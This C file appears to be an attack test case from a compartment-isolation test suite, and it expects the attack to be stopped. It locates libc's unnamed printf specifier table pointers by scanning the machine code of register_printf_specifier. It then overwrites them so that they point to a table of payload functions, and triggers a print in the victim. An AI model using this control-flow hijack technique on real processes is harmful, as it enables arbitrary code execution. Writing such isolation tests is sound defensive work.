/* class: libc
 * source: the tables that register_printf_specifier sets are found through pointers in libc's data
 * tries: to set the pointers, which have no names, by hand
 * must: have no effect on other compartments
 * expect: stopped */
#include "attack.h"
#include <dlfcn.h>
#include <link.h>

/* The words that a function of libc stores to, as its file has it: the runtime changes the code. */
static void set_words(const char *name, word value)
{
    unsigned char code[256];
    Dl_info info;
    void *libc = dlopen("libc.so.6", RTLD_NOW | RTLD_NOLOAD);
    char *function = libc ? dlsym(libc, name) : NULL;
    if (!function || !dladdr(function, &info))
        cannot("libc has no such function");
    int file = open(info.dli_fname, O_RDONLY), found = 0;
    if (pread(file, code, sizeof code, function - (char *)info.dli_fbase) != sizeof code)
        cannot("libc's file cannot be read");
    close(file);
    for (int i = 0; i + 7 < 200; i++)
        if ((code[i] & 0xfb) == 0x48 && code[i + 1] == 0x89 && (code[i + 2] & 0xc7) == 5) {
            *(word *)(function + i + 7 + *(int *)(code + i + 3)) = value;
            found++;
        }
    if (!found)
        cannot("no word is found");
}

ATTACK
{
    word *table = (word *)shared_at(0x4000);
    for (int i = 0; i < 512; i++)
        table[i] = (word)payload;
    set_words("register_printf_specifier", (word)table);
    victim_call(PRINT, 5, 0);
}
